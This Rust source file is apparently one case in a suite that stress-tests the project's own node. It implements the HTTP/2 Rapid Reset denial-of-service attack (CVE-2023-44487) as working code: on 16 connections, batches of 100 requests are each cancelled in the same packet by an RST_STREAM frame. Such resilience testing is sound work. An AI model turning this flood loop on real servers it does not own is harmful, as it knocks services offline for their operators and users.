//! Rapid reset (CVE-2023-44487). The attacker opens calls and cancels each in the same packet. No
//! limit of open calls is ever reached, and the node does the work of each call for nobody.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::super::case::{Case, Role, Target};
use super::super::wire::{self, RST_STREAM, call, frame};

/// Connections.
const CONNECTIONS: usize = 16;
/// Calls of one write.
const AT_ONCE: u32 = 100;
/// Error code: the client no longer wants the answer.
const CANCEL: u32 = 8;

pub(crate) const CASE: Case = Case {
    name: "rapid-reset",
    does: "opens calls and cancels them in the same packet, on 16 connections",
    role: Role::Leader,
    attack: |target| Box::pin(attack(target)),
    ..Case::PLAIN
};

pub(crate) const AT_PEERS: Case = CASE.at_peers("rapid-reset-peers", "does what rapid-reset does, at the peer port");
pub(crate) const AT_HTTP: Case = CASE.at_http("rapid-reset-http", "does what rapid-reset does, at the http port");

async fn attack(target: Target) -> Result<()> {
    target.together(CONNECTIONS, call_and_cancel).await
}

async fn call_and_cancel(target: Target, _: usize) -> Result<()> {
    let (mut answers, mut requests) = wire::connect_http2(target.port()).await?.io.into_split();
    let reading = tokio::spawn(async move { wire::read_all(&mut answers).await });
    let small_call = target.small_call();
    let mut stream = 1;
    while target.goes_on() {
        let calls: Vec<u8> = (0..AT_ONCE).flat_map(|n| cancelled(stream + 2 * n, small_call)).collect();
        stream += 2 * AT_ONCE;
        requests.write_all(&calls).await?;
        target.count("cancelled calls", AT_ONCE as usize);
    }
    reading.abort();
    Ok(())
}

fn cancelled(stream: u32, (path, request): (&str, &[u8])) -> Vec<u8> {
    [call(stream, path, request), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
}
